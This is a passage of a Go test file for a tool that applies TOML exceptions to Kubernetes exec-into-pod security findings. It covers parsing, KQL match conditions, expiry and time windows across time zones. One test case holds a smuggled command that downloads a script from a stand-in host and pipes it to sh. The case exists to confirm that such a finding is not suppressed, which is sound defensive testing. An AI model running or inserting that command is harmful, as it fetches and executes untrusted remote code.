package triage_test

import (
	"encoding/json"
	"errors"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/k8sexec/k8sexec/rules"
	"github.com/k8sexec/k8sexec/scan"
	"github.com/k8sexec/k8sexec/triage"
)

const (
	exRuleAudit     = "14de811c-d60f-11ec-9fd7-f661ea17fbce"
	exRuleProcess   = "420e5bb4-93bf-40a3-8f4a-4cc1af90eca1"
	exRuleWebSocket = "1c50f817-b9c2-4669-a629-d365cc2a0802"
	exFile          = "exceptions.toml"
)

func exParse(t *testing.T, src string) []*triage.Exception {
	t.Helper()
	exs, err := triage.ParseExceptions([]byte(src), exFile)
	if err != nil {
		t.Fatalf("ParseExceptions:\n%v\nsource:\n%s", err, src)
	}
	return exs
}

func exOne(t *testing.T, src string) *triage.Exception {
	t.Helper()
	exs := exParse(t, src)
	if len(exs) != 1 {
		t.Fatalf("got %d exceptions, want 1", len(exs))
	}
	return exs[0]
}

// exDoc builds the document a `when` is evaluated on exactly as the scan
// command does: the finding's JSON form, read by scan.Adapt.
func exDoc(f *triage.Finding) rules.Document {
	b, err := json.Marshal(f)
	if err != nil {
		panic(err)
	}
	doc, _ := scan.Adapt(b)
	return doc
}

func exMustTime(t *testing.T, s string) time.Time {
	t.Helper()
	at, err := time.Parse(time.RFC3339Nano, s)
	if err != nil {
		t.Fatal(err)
	}
	return at
}

// exAuditFinding is an exec request by alice into shop/api-1 (api)
// running `ls -la /srv`.
func exAuditFinding() *triage.Finding {
	return &triage.Finding{
		ID:        "a1b2c3d4e5f60718",
		Rule:      triage.RuleRef{ID: exRuleAudit, Name: "Kubernetes User Exec into Pod", Severity: "medium", RiskScore: 47, Origin: "elastic"},
		Kind:      triage.KindAudit,
		Timestamp: "2026-11-20T10:15:00.123456Z",
		User:      &triage.User{Name: "alice@example.com", Groups: []string{"devs", "system:authenticated"}},
		Source:    &triage.Source{IP: []string{"203.0.113.9", "10.40.0.17"}},
		UserAgent: &triage.UserAgent{Original: "kubectl/v1.31.0 (linux/amd64)"},
		Orch: &triage.Orchestrator{
			Namespace: "shop",
			Resource:  &triage.Resource{Type: "pod", Name: "api-1"},
		},
		Container: &triage.Container{Name: "api"},
		Process:   &triage.Process{Args: []string{"ls", "-la", "/srv"}},
		Exec:      &triage.ExecFlags{Stdout: true, Stderr: true},
		Audit:     &triage.Audit{AuditID: "1f0c7a52-93d4-4d0e-9a57-0e2b6f1d2c11", Verb: "create", Resource: "pods", Subresource: "exec", Decision: "allow", ResponseCode: 101},
		Evidence:  []triage.Evidence{{File: "audit.log", Line: 7, Stage: "ResponseStarted"}},
	}
}

func TestParseExceptionsEveryField(t *testing.T) {
	ex := exOne(t, `
[[exception]]
name    = "ci-smoke-test"
rule    = "14de811c-d60f-11ec-9fd7-f661ea17fbce"
when    = 'user.name:"system:serviceaccount:ci:deployer" and orchestrator.namespace:"shop" and process.args:"ls"'
reason  = "CI lists the web root after each deploy"
expires = 2027-03-31
[exception.window]
days     = ["Sat", "sunday"]
hours    = "22:00-06:00"
timezone = "Europe/Berlin"
`)
	if ex.Name != "ci-smoke-test" || ex.Reason != "CI lists the web root after each deploy" {
		t.Errorf("name, reason = %q, %q", ex.Name, ex.Reason)
	}
	if !reflect.DeepEqual(ex.Rules, []string{exRuleAudit}) {
		t.Errorf("rules = %q", ex.Rules)
	}
	if !strings.HasPrefix(ex.When, `user.name:"system:serviceaccount:ci:deployer"`) {
		t.Errorf("when = %q", ex.When)
	}
	if ex.Source != "exceptions.toml: exception 1" || ex.String() != `exceptions.toml: exception 1 ("ci-smoke-test")` {
		t.Errorf("source, string = %q, %q", ex.Source, ex.String())
	}
	berlin, _ := time.LoadLocation("Europe/Berlin")
	if want := time.Date(2027, 4, 1, 0, 0, 0, 0, berlin); !ex.Expires.Equal(want) {
		t.Errorf("expires = %v, want %v (end of the day in the window's zone)", ex.Expires, want)
	}
	if ex.ExpiresText() != "2027-03-31" {
		t.Errorf("expires text = %q", ex.ExpiresText())
	}
	w := ex.Window
	if w == nil {
		t.Fatal("no window")
	}
	wantDays := [7]bool{time.Sunday: true, time.Saturday: true}
	if w.Days != wantDays || w.From != 22*60 || w.To != 6*60 || w.Location.String() != "Europe/Berlin" {
		t.Errorf("window = %+v", *w)
	}
}

func TestParseExceptionsDefaults(t *testing.T) {
	exs := exParse(t, `
[[exception]]
reason = "first"
[[exception]]
name   = "  "
reason = "second"
`)
	if len(exs) != 2 {
		t.Fatalf("got %d exceptions", len(exs))
	}
	for i, ex := range exs {
		n := []string{"1", "2"}[i]
		if ex.Name != "exception "+n || ex.String() != "exceptions.toml: exception "+n {
			t.Errorf("exception %s: name %q, string %q", n, ex.Name, ex.String())
		}
		if ex.Rules != nil || ex.When != "" || !ex.Expires.IsZero() || ex.Window != nil || ex.ExpiresText() != "" {
			t.Errorf("exception %s: defaults not empty: %+v", n, ex)
		}
		if !ex.AppliesTo(exRuleAudit) || !ex.AppliesTo("anything") {
			t.Errorf("exception %s: no rule should mean every rule", n)
		}
		if !ex.Covers(exAuditFinding(), nil) || ex.Expired(time.Date(9999, 1, 1, 0, 0, 0, 0, time.UTC)) {
			t.Errorf("exception %s: without when, window or expiry it covers every finding forever", n)
		}
	}
	if exs, err := triage.ParseExceptions(nil, exFile); err != nil || len(exs) != 0 {
		t.Errorf("an empty file: %v, %v", exs, err)
	}
}

func TestParseExceptionsRuleForms(t *testing.T) {
	tests := []struct {
		name, rule string
		want       []string
	}{
		{"omitted", ``, nil},
		{"star", `rule = "*"`, nil},
		{"star in a list", `rule = ["*"]`, nil},
		{"one ID", `rule = "` + exRuleAudit + `"`, []string{exRuleAudit}},
		{"list", `rule = ["` + exRuleAudit + `", "` + exRuleWebSocket + `"]`, []string{exRuleAudit, exRuleWebSocket}},
		{"duplicates and spaces", `rule = [" a ", "b", "a"]`, []string{"a", "b"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			ex := exOne(t, "[[exception]]\nreason = \"r\"\n"+tt.rule+"\n")
			if !reflect.DeepEqual(ex.Rules, tt.want) {
				t.Errorf("rules = %q, want %q", ex.Rules, tt.want)
			}
		})
	}
}

func TestParseExceptionsExpires(t *testing.T) {
	newYork, err := time.LoadLocation("America/New_York")
	if err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name, src string
		want      time.Time
		text      string
	}{
		{"date, UTC", `expires = 2027-03-31`, time.Date(2027, 4, 1, 0, 0, 0, 0, time.UTC), "2027-03-31"},
		{"date in the window's zone", "expires = 2027-03-31\n[exception.window]\ntimezone = \"America/New_York\"",
			time.Date(2027, 4, 1, 0, 0, 0, 0, newYork), "2027-03-31"},
		{"offset date-time", `expires = 2027-03-31T18:00:00+01:00`, time.Date(2027, 3, 31, 17, 0, 0, 0, time.UTC), "2027-03-31T18:00:00+01:00"},
		{"local date-time in the window's zone", "expires = 2027-03-31T18:00:00\n[exception.window]\ntimezone = \"America/New_York\"",
			time.Date(2027, 3, 31, 18, 0, 0, 0, newYork), "2027-03-31T18:00:00"},
		{"quoted date", `expires = "2027-03-31"`, time.Date(2027, 4, 1, 0, 0, 0, 0, time.UTC), "2027-03-31"},
		{"quoted date-time", `expires = "2027-03-31T18:00:00Z"`, time.Date(2027, 3, 31, 18, 0, 0, 0, time.UTC), "2027-03-31T18:00:00Z"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			ex := exOne(t, "[[exception]]\nreason = \"r\"\n"+tt.src+"\n")
			if !ex.Expires.Equal(tt.want) || ex.ExpiresText() != tt.text {
				t.Errorf("expires = %v (%q), want %v (%q)", ex.Expires, ex.ExpiresText(), tt.want, tt.text)
			}
		})
	}
}

func TestParseExceptionsErrors(t *testing.T) {
	const ok = "[[exception]]\nreason = \"fine\"\n"
	tests := []struct {
		name, src string
		want      []string // each must appear in the error text
	}{
		{"missing reason", `[[exception]]
name = "ci-smoke-test"`, []string{`exceptions.toml: exception 1 ("ci-smoke-test"): reason is required`}},
		{"blank reason, second exception, no name", ok + `[[exception]]
reason = "  "`, []string{`exceptions.toml: exception 2: reason is required`}},
		{"reason not a string", `[[exception]]
reason = 5`, []string{`exceptions.toml: exception 1: reason: want a string, not an integer`}},
		// A blank when would hold for every finding of every rule.
		{"blank when", `[[exception]]
reason = "r"
when = "  "`, []string{`exceptions.toml: exception 1: when is empty`}},
		{"KQL syntax", ok + `[[exception]]
name = "ci-smoke-test"
reason = "r"
when = 'user.name:"alice" and ('`, []string{`exceptions.toml: exception 2 ("ci-smoke-test"): when: kql syntax error`}},
		{"EQL query", `[[exception]]
reason = "r"
when = 'process where process.name == "ls"'`, []string{`exceptions.toml: exception 1: when: this is EQL`, "EQL is not accepted here"}},
		{"EQL operator", `[[exception]]
reason = "r"
when = 'user.name == "alice"'`, []string{`exceptions.toml: exception 1: when: `, "EQL is not accepted here"}},
		{"free text", `[[exception]]
reason = "r"
when = 'alice'`, []string{`exceptions.toml: exception 1: when: unsupported: KQL free-text term`}},
		{"event field instead of finding field", `[[exception]]
reason = "r"
when = 'kubernetes.audit.user.username:"alice"'`, []string{`when: kubernetes.audit.user.username is not a field of a finding`, "did you mean user.name?"}},
		{"suggestion by last segment", `[[exception]]
reason = "r"
when = 'kubernetes.audit.subresource:"exec"'`, []string{"did you mean kubernetes.subresource?"}},
		{"value test on an object", `[[exception]]
reason = "r"
when = 'not user:"alice"'`, []string{`when: user is an object; name one of its fields`}},
		// A value a boolean or numeric field never holds, which
		// Elasticsearch refuses: under not it would suppress everything.
		{"boolean field, not a boolean", `[[exception]]
reason = "r"
when = 'not exec.tty:True'`, []string{`when: exec.tty is true or false, not "True"`}},
		{"boolean field, a number", `[[exception]]
reason = "r"
when = 'process.interactive:1'`, []string{`when: process.interactive is true or false, not "1"`}},
		{"boolean field, a wildcard", `[[exception]]
reason = "r"
when = 'session.ongoing:t*'`, []string{`when: session.ongoing is true or false: compare it with one of those`}},
		{"numeric field, a word", `[[exception]]
reason = "r"
when = 'kubernetes.response_code:abc'`, []string{`when: kubernetes.response_code is a number, not "abc"`}},
		{"numeric field, a wildcard", `[[exception]]
reason = "r"
when = 'process.pid:12*'`, []string{`when: process.pid is a number: compare it with a number`}},
		{"a name twice", `[[exception]]
name = "ci"
reason = "r"
[[exception]]
name = "ci"
reason = "r"`, []string{`exceptions.toml: exception 2 ("ci"): name "ci" is also exception 1's: give each its own`}},
		{"a name an unnamed exception has", `[[exception]]
name = "Exception  2"
reason = "r"
[[exception]]
reason = "r"`, []string{`exceptions.toml: exception 1 ("Exception  2"): name: "Exception  2" is how an exception without a name is called: choose another`}},
		{"windows for window", `[[exception]]
reason = "r"
[exception.windows]
days = ["mon"]`, []string{`unknown key windows (did you mean window?)`}},
		{"when not a string", `[[exception]]
reason = "r"
when = ["a"]`, []string{`when: want a KQL query in a string, not an array`}},
		{"unknown key", `[[exception]]
reason = "r"
owner = "sre"`, []string{`exceptions.toml: exception 1: unknown key owner`}},
		{"unknown key with hint, second exception", ok + `[[exception]]
name = "x"
reason = "r"
rules = "` + exRuleAudit + `"`, []string{`exceptions.toml: exception 2 ("x"): unknown key rules (did you mean rule?)`}},
		{"unknown table", `[[exception]]
reason = "r"
[exception.match]
user = "alice"`, []string{`exceptions.toml: exception 1: unknown key match`}},
		{"unknown window key", `[[exception]]
reason = "r"
[exception.window]
tz = "UTC"`, []string{`exceptions.toml: exception 1: unknown key window.tz (did you mean timezone?)`}},
		{"unknown key in an inline array of tables", `exception = [{reason = "r"}, {reason = "r", qurey = "x"}]`,
			[]string{`exceptions.toml: exception 2: unknown key qurey`}},
		{"misspelt header", `[[exceptions]]
reason = "r"`, []string{`exceptions.toml: unknown key exceptions (did you mean [[exception]]?)`}},
		{"keys without a header", `reason = "r"`, []string{`exceptions.toml: unknown key reason (the keys of an exception go under an [[exception]] header)`}},
		{"empty rule", `[[exception]]
reason = "r"
rule = ""`, []string{`exceptions.toml: exception 1: rule: empty`}},
		{"empty rule list", `[[exception]]
reason = "r"
rule = []`, []string{`rule: empty list`}},
		{"empty rule list entry", `[[exception]]
reason = "r"
rule = ["` + exRuleAudit + `", ""]`, []string{`exceptions.toml: exception 1: rule: entry 2 is empty`}},
		{"rule list entry not a string", `[[exception]]
reason = "r"
rule = ["a", 3]`, []string{`rule: entry 2: want a rule_id string, not an integer`}},
		{"star with IDs", `[[exception]]
reason = "r"
rule = ["*", "a"]`, []string{`rule: "*" means every rule and cannot be listed with rule IDs`}},
		{"rule not a string", `[[exception]]
reason = "r"
rule = 14`, []string{`rule: want a rule_id or a list of them, not an integer`}},
		{"unknown day", `[[exception]]
reason = "r"
[exception.window]
days = ["sat", "funday"]`, []string{`exceptions.toml: exception 1: window: days: unknown day "funday"`}},
		{"bad day range", `[[exception]]
reason = "r"
[exception.window]
days = ["mon-xyz"]`, []string{`window: days: unknown day "xyz"`}},
		{"days not names", `[[exception]]
reason = "r"
[exception.window]
days = [1, 2]`, []string{`window: days: entry 1: want a day name, not an integer`}},
		{"hours without a range", `[[exception]]
reason = "r"
[exception.window]
hours = "22:00"`, []string{`window: hours: "22:00": want a range "HH:MM-HH:MM"`}},
		{"hour out of range", `[[exception]]
reason = "r"
[exception.window]
hours = "25:00-06:00"`, []string{`window: hours: "25:00-06:00": "25:00" is not a time HH:MM`}},
		{"minutes not two digits", `[[exception]]
reason = "r"
[exception.window]
hours = "9:5-10:00"`, []string{`window: hours: "9:5-10:00": "9:5" is not a time HH:MM`}},
		{"24:00 as a start", `[[exception]]
reason = "r"
[exception.window]
hours = "24:00-01:00"`, []string{`"24:00" is not a time HH:MM`}},
		{"empty range", `[[exception]]
reason = "r"
[exception.window]
hours = "22:00-22:00"`, []string{`window: hours: "22:00-22:00" starts and ends at the same time`}},
		{"unknown time zone", `[[exception]]
name = "oncall"
reason = "r"
[exception.window]
timezone = "Mars/Olympus_Mons"`, []string{`exceptions.toml: exception 1 ("oncall"): window: timezone: unknown time zone "Mars/Olympus_Mons"`}},
		{"Local time zone", `[[exception]]
reason = "r"
[exception.window]
timezone = "Local"`, []string{`window: timezone: "Local" depends on the machine`}},
		{"window not a table", `[[exception]]
reason = "r"
window = "weekends"`, []string{`exceptions.toml: exception 1: window: want a table`}},
		{"expiry is a time of day", `[[exception]]
reason = "r"
expires = 18:00:00`, []string{`exceptions.toml: exception 1: expires: a time of day alone is not an expiry`}},
		{"expiry unparsable", `[[exception]]
reason = "r"
expires = "next week"`, []string{`expires: "next week" is not a date`}},
		{"expiry a number", `[[exception]]
reason = "r"
expires = 20270331`, []string{`expires: want a date such as 2027-03-31, not an integer`}},
		{"TOML syntax", `[[exception]
reason = "r"`, []string{`exceptions.toml: toml: `}},
		{"every problem is reported", `[[exception]]
name = "a"
when = 'x:('
[[exception]]
name = "b"
reason = "r"
[exception.window]
hours = "7-8"`, []string{`exception 1 ("a"): reason is required`, `exception 1 ("a"): when: `, `exception 2 ("b"): window: hours: `}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			exs, err := triage.ParseExceptions([]byte(tt.src), exFile)
			if err == nil {
				t.Fatalf("no error; got %d exceptions", len(exs))
			}
			if exs != nil {
				t.Errorf("exceptions returned beside an error")
			}
			for _, want := range tt.want {
				if !strings.Contains(err.Error(), want) {
					t.Errorf("error does not contain %q:\n%v", want, err)
				}
			}
			var exErr *triage.ExceptionError
			if !errors.As(err, &exErr) || exErr.File != exFile {
				t.Errorf("error is not an *ExceptionError naming the file: %#v", err)
			}
		})
	}
}

func TestExceptionErrorIndex(t *testing.T) {
	_, err := triage.ParseExceptions([]byte("[[exception]]\nreason = \"r\"\n[[exception]]\nname = \"b\"\n"), exFile)
	var exErr *triage.ExceptionError
	if !errors.As(err, &exErr) || exErr.Index != 2 || exErr.Name != "b" {
		t.Fatalf("want an ExceptionError for exception 2 (b), got %#v", err)
	}
}

func TestLoadExceptionsMissingFile(t *testing.T) {
	_, err := triage.LoadExceptions("testdata/no-such-exceptions.toml")
	if err == nil || !strings.Contains(err.Error(), "no-such-exceptions.toml") {
		t.Fatalf("err = %v", err)
	}
}

func TestExceptionWhen(t *testing.T) {
	tests := []struct {
		name   string
		when   string
		change func(f *triage.Finding)
		want   bool
	}{
		{"user", `user.name:"alice@example.com"`, nil, true},
		{"user is case-sensitive", `user.name:"Alice@example.com"`, nil, false},
		{"other user", `user.name:"bob@example.com"`, nil, false},
		{"user wildcard", `user.name:*@example.com`, nil, true},
		{"group, any element", `user.groups:"devs"`, nil, true},
		{"service account", `user.name:"system:serviceaccount:ci:deployer"`,
			func(f *triage.Finding) { f.User = &triage.User{Name: "system:serviceaccount:ci:deployer"} }, true},
		{"service account escaped, unquoted", `user.name:system\:serviceaccount\:ci\:*`,
			func(f *triage.Finding) { f.User = &triage.User{Name: "system:serviceaccount:ci:deployer"} }, true},
		{"service account of another namespace", `user.name:system\:serviceaccount\:ci\:*`,
			func(f *triage.Finding) { f.User = &triage.User{Name: "system:serviceaccount:prod:deployer"} }, false},
		{"impersonated", `user.impersonated.name:"system:admin"`,
			func(f *triage.Finding) { f.User.Impersonated = &triage.User{Name: "system:admin"} }, true},
		{"namespace", `orchestrator.namespace:"shop"`, nil, true},
		{"namespace list", `orchestrator.namespace:(payments or shop)`, nil, true},
		{"other namespace", `orchestrator.namespace:"payments"`, nil, false},
		{"pod wildcard", `orchestrator.resource.name:api-*`, nil, true},
		{"container", `container.name:"api"`, nil, true},
		{"source IP, first element", `source.ip:"203.0.113.9"`, nil, true},
		{"source IP, last element", `source.ip:"10.40.0.17"`, nil, true},
		{"source IP wildcard", `source.ip:10.40.0.*`, nil, true},
		{"source IP wildcard keeps octets apart", `source.ip:10.4.*`, nil, false},
		{"source IP absent", `source.ip:10.40.0.*`, func(f *triage.Finding) { f.Source = nil }, false},
		{"command, first element", `process.args:"ls"`, nil, true},
		{"command, any element", `process.args:"/srv"`, nil, true},
		{"command, every part", `process.args:"ls" and process.args:"/srv"`, nil, true},
		{"command is not a substring match", `process.args:"l"`, nil, false},
		{"other command", `process.args:"bash"`, nil, false},
		{"shell wrapping a command", `process.args:"ls"`,
			func(f *triage.Finding) { f.Process.Args = []string{"sh", "-c", "ls; curl http://203.0.113.50/x | sh"} }, false},
		{"executable", `process.executable:"/usr/bin/tar"`,
			func(f *triage.Finding) { f.Process.Executable = "/usr/bin/tar" }, true},
		{"verb", `kubernetes.verb:"create"`, nil, true},
		{"rule id", `rule.id:"` + exRuleAudit + `"`, nil, true},
		{"tty false", `not exec.tty:true`, nil, true},
		{"tty true", `not exec.tty:true`, func(f *triage.Finding) { f.Exec.TTY = true }, false},
		{"negation of a missing field", `not user.impersonated.name:*`, nil, true},
		{"everything together", `user.name:"alice@example.com" and orchestrator.namespace:"shop" and source.ip:10.40.0.* and process.args:"ls"`, nil, true},
		{"one part off", `user.name:"alice@example.com" and orchestrator.namespace:"shop" and process.args:"cat"`, nil, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			ex := exOne(t, "[[exception]]\nreason = \"r\"\nwhen = '"+tt.when+"'\n")
			f := exAuditFinding()
			if tt.change != nil {
				tt.change(f)
			}
			if got := ex.Covers(f, exDoc(f)); got != tt.want {
				t.Errorf("Covers = %v, want %v (when %s)", got, tt.want, tt.when)
			}
		})
	}
}

func TestExceptionWhenWithoutDocument(t *testing.T) {
	ex := exOne(t, "[[exception]]\nreason = \"r\"\nwhen = 'user.name:*'\n")
	if ex.Covers(exAuditFinding(), nil) {
		t.Error("a when with no document to read must not cover")
	}
}

func TestExceptionRuleFilter(t *testing.T) {
	tests := []struct {
		rule   string
		ruleID string
		want   bool
	}{
		{`rule = "` + exRuleAudit + `"`, exRuleAudit, true},
		{`rule = "` + exRuleAudit + `"`, exRuleWebSocket, false},
		{`rule = ["` + exRuleAudit + `", "` + exRuleWebSocket + `"]`, exRuleWebSocket, true},
		{`rule = ["` + exRuleAudit + `", "` + exRuleWebSocket + `"]`, exRuleProcess, false},
		{`rule = "*"`, exRuleProcess, true},
		{``, exRuleProcess, true},
	}
	for _, tt := range tests {
		t.Run(tt.rule+" "+tt.ruleID[:8], func(t *testing.T) {
			ex := exOne(t, "[[exception]]\nreason = \"r\"\nwhen = 'orchestrator.namespace:\"shop\"'\n"+tt.rule+"\n")
			if got := ex.AppliesTo(tt.ruleID); got != tt.want {
				t.Errorf("AppliesTo = %v, want %v", got, tt.want)
			}
			f := exAuditFinding()
			f.Rule.ID = tt.ruleID
			if got := ex.Covers(f, exDoc(f)); got != tt.want {
				t.Errorf("Covers = %v, want %v", got, tt.want)
			}
		})
	}
}

func TestExceptionExpired(t *testing.T) {
	tests := []struct {
		name, src string
		now       string
		want      bool
	}{
		{"UTC, last nanosecond of the day", `expires = 2027-03-31`, "2027-03-31T23:59:59.999999999Z", false},
		{"UTC, last second of the day", `expires = 2027-03-31`, "2027-03-31T23:59:59Z", false},
		{"UTC, midnight after", `expires = 2027-03-31`, "2027-04-01T00:00:00Z", true},
		{"UTC, long before", `expires = 2027-03-31`, "2026-01-01T00:00:00Z", false},
		// Berlin is on summer time (UTC+2) from 28 March 2027.
		{"Berlin, 23:59:59 local", "expires = 2027-03-31\n[exception.window]\ntimezone = \"Europe/Berlin\"", "2027-03-31T23:59:59+02:00", false},
		{"Berlin, 23:59:59 local in UTC", "expires = 2027-03-31\n[exception.window]\ntimezone = \"Europe/Berlin\"", "2027-03-31T21:59:59Z", false},
		{"Berlin, midnight local", "expires = 2027-03-31\n[exception.window]\ntimezone = \"Europe/Berlin\"", "2027-04-01T00:00:00+02:00", true},
		{"Berlin, midnight local in UTC", "expires = 2027-03-31\n[exception.window]\ntimezone = \"Europe/Berlin\"", "2027-03-31T22:00:00Z", true},
		{"Berlin, 23:00 UTC is already the next day there", "expires = 2027-03-31\n[exception.window]\ntimezone = \"Europe/Berlin\"", "2027-03-31T23:00:00Z", true},
		{"offset date-time, just before", `expires = 2026-12-31T18:00:00+01:00`, "2026-12-31T16:59:59Z", false},
		{"offset date-time, at", `expires = 2026-12-31T18:00:00+01:00`, "2026-12-31T17:00:00Z", true},
		{"never", ``, "9999-12-31T23:59:59Z", false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			ex := exOne(t, "[[exception]]\nreason = \"r\"\n"+tt.src+"\n")
			now := exMustTime(t, tt.now)
			if got := ex.Expired(now); got != tt.want {
				t.Errorf("Expired(%s) = %v, want %v (expires %v)", tt.now, got, tt.want, ex.Expires)
			}
			// Apply agrees: an expired exception suppresses nothing and
			// is handed back.
			kept, suppressed, expired := triage.Apply([]*triage.Finding{exAuditFinding()}, []*triage.Exception{ex}, now, exDoc)
			if tt.want != (len(expired) == 1) || tt.want != (len(kept) == 1) || tt.want == (len(suppressed) == 1) {
				t.Errorf("Apply: kept %d, suppressed %d, expired %d", len(kept), len(suppressed), len(expired))
			}
		})
	}
}

func TestWindowContains(t *testing.T) {
	// 2026-11-20 is a Friday.
	tests := []struct {
		name, window string
		at           string
		want         bool
	}{
		{"weekday listed", `days = ["fri"]`, "2026-11-20T12:00:00Z", true},
		{"weekday not listed", `days = ["sat", "sun"]`, "2026-11-20T12:00:00Z", false},
		{"weekend, Sunday", `days = ["sat", "sun"]`, "2026-11-22T03:00:00Z", true},
		{"full day name, any case", `days = ["FRIDAY"]`, "2026-11-20T12:00:00Z", true},
		{"a single string", `days = "mon-fri"`, "2026-11-20T12:00:00Z", true},
		{"range mon-fri, Monday", `days = ["mon-fri"]`, "2026-11-16T08:00:00Z", true},
		{"range mon-fri, Wednesday", `days = ["mon-fri"]`, "2026-11-18T08:00:00Z", true},
		{"range mon-fri, Saturday", `days = ["mon-fri"]`, "2026-11-21T08:00:00Z", false},
		{"range mon-fri, Sunday", `days = ["mon-fri"]`, "2026-11-22T08:00:00Z", false},
		{"wrapping range fri-mon, Sunday", `days = ["fri-mon"]`, "2026-11-22T08:00:00Z", true},
		{"wrapping range fri-mon, Tuesday", `days = ["fri-mon"]`, "2026-11-17T08:00:00Z", false},
		{"all seven days", `days = ["mon-sun"]`, "2026-11-17T08:00:00Z", true},
		{"hours, inside", `hours = "09:00-17:00"`, "2026-11-20T12:00:00Z", true},
		{"hours, start is inside", `hours = "09:00-17:00"`, "2026-11-20T09:00:00Z", true},
		{"hours, last second inside", `hours = "09:00-17:00"`, "2026-11-20T16:59:59.999Z", true},
		{"hours, end is outside", `hours = "09:00-17:00"`, "2026-11-20T17:00:00Z", false},
		{"hours, before", `hours = "09:00-17:00"`, "2026-11-20T08:59:59Z", false},
		{"hours to 24:00", `hours = "18:00-24:00"`, "2026-11-20T23:59:59Z", true},
		{"hours to 24:00, midnight outside", `hours = "18:00-24:00"`, "2026-11-21T00:00:00Z", false},
		{"00:00-24:00 is the whole day", `hours = "00:00-24:00"`, "2026-11-21T00:00:00Z", true},
		{"hours and days", "days = [\"mon-fri\"]\nhours = \"09:00-17:00\"", "2026-11-21T12:00:00Z", false},
		{"across midnight, Friday 23:30", "days = [\"fri\"]\nhours = \"22:00-06:00\"", "2026-11-20T23:30:00Z", true},
		{"across midnight, Friday 22:00", "days = [\"fri\"]\nhours = \"22:00-06:00\"", "2026-11-20T22:00:00Z", true},
		{"across midnight, Saturday 00:00", "days = [\"fri\"]\nhours = \"22:00-06:00\"", "2026-11-21T00:00:00Z", true},
		{"across midnight, Saturday 05:59", "days = [\"fri\"]\nhours = \"22:00-06:00\"", "2026-11-21T05:59:00Z", true},
		{"across midnight, Saturday 05:59:59", "days = [\"fri\"]\nhours = \"22:00-06:00\"", "2026-11-21T05:59:59Z", true},
		{"across midnight, Saturday 06:00", "days = [\"fri\"]\nhours = \"22:00-06:00\"", "2026-11-21T06:00:00Z", false},
		{"across midnight, Thursday 23:30", "days = [\"fri\"]\nhours = \"22:00-06:00\"", "2026-11-19T23:30:00Z", false},
		{"across midnight, Friday 05:00 began Thursday", "days = [\"fri\"]\nhours = \"22:00-06:00\"", "2026-11-20T05:00:00Z", false},
		{"across midnight, Friday 12:00", "days = [\"fri\"]\nhours = \"22:00-06:00\"", "2026-11-20T12:00:00Z", false},
		{"across midnight, Saturday 23:30", "days = [\"fri\"]\nhours = \"22:00-06:00\"", "2026-11-21T23:30:00Z", false},
		{"across midnight every day", `hours = "22:00-06:00"`, "2026-11-18T03:00:00Z", true},
		{"to midnight", `hours = "22:00-00:00"`, "2026-11-20T23:59:00Z", true},
		{"to midnight, after", `hours = "22:00-00:00"`, "2026-11-21T00:00:00Z", false},
		// 21:30 UTC is 22:30 in Berlin (UTC+1 in November).
		{"Berlin, 21:30Z is 22:30 there", "hours = \"22:00-06:00\"\ntimezone = \"Europe/Berlin\"", "2026-11-21T21:30:00Z", true},
		{"Berlin, 20:30Z is 21:30 there", "hours = \"22:00-06:00\"\ntimezone = \"Europe/Berlin\"", "2026-11-21T20:30:00Z", false},
		{"Berlin, Saturday window", "days = [\"sat\"]\nhours = \"22:00-06:00\"\ntimezone = \"Europe/Berlin\"", "2026-11-21T21:30:00Z", true},
		// 23:30 UTC on Friday is already Saturday 00:30 in Berlin: the
		// window it belongs to started on Friday there.
		{"Berlin, the day is read there too", "days = [\"sat\"]\nhours = \"00:00-06:00\"\ntimezone = \"Europe/Berlin\"", "2026-11-20T23:30:00Z", true},
		{"UTC, the same instant is still Friday", "days = [\"sat\"]\nhours = \"00:00-06:00\"", "2026-11-20T23:30:00Z", false},
		// America/New_York falls back from EDT (UTC-4) to EST (UTC-5)
		// at 02:00 on Sunday 2026-11-01, so 01:00-02:00 happens twice.
		{"New York, 01:30 EDT", "hours = \"01:00-02:00\"\ntimezone = \"America/New_York\"", "2026-11-01T05:30:00Z", true},
		{"New York, 01:30 EST", "hours = \"01:00-02:00\"\ntimezone = \"America/New_York\"", "2026-11-01T06:30:00Z", true},
		{"New York, 02:30 EST", "hours = \"01:00-02:00\"\ntimezone = \"America/New_York\"", "2026-11-01T07:30:00Z", false},
		{"New York, 09:00 EDT on Friday", "hours = \"09:00-17:00\"\ntimezone = \"America/New_York\"", "2026-10-30T13:00:00Z", true},
		{"New York, the same UTC hour is 08:00 EST on Monday", "hours = \"09:00-17:00\"\ntimezone = \"America/New_York\"", "2026-11-02T13:00:00Z", false},
		{"New York, 09:00 EST on Monday", "hours = \"09:00-17:00\"\ntimezone = \"America/New_York\"", "2026-11-02T14:00:00Z", true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			ex := exOne(t, "[[exception]]\nreason = \"r\"\n[exception.window]\n"+tt.window+"\n")
			at := exMustTime(t, tt.at)
			if got := ex.Window.Contains(at); got != tt.want {
				t.Errorf("Contains(%s) = %v, want %v (window %+v)", tt.at, got, tt.want, *ex.Window)
			}
			f := exAuditFinding()
			f.Timestamp = tt.at
			if got := ex.Covers(f, exDoc(f)); got != tt.want {
				t.Errorf("Covers with timestamp %s = %v, want %v", tt.at, got, tt.want)
			}
		})
	}
}

func TestWindowLiteral(t *testing.T) {
	var w *triage.Window
	if !w.Contains(time.Now()) {
		t.Error("a nil window contains every time")
	}
	// A Window built in code with no Location reads times in UTC.
	w = &triage.Window{From: 22 * 60, To: 6 * 60}
	w.Days[time.Friday] = true
	if !w.Contains(time.Date(2026, 11, 21, 5, 0, 0, 0, time.UTC)) || w.Contains(time.Date(2026, 11, 22, 5, 0, 0, 0, time.UTC)) {
		t.Error("literal window across midnight")
	}
}

func TestWindowNeedsTimestamp(t *testing.T) {
	tests := []struct {
		name, window, timestamp string
		want                    bool
	}{
		{"no timestamp, hours", `hours = "00:00-23:59"`, "", false},
		{"no timestamp, days", `days = ["mon-sun"]`, "", true},
		{"no timestamp, one day", `days = ["mon"]`, "", false},
		{"unparsable timestamp", `hours = "00:00-23:59"`, "yesterday", false},
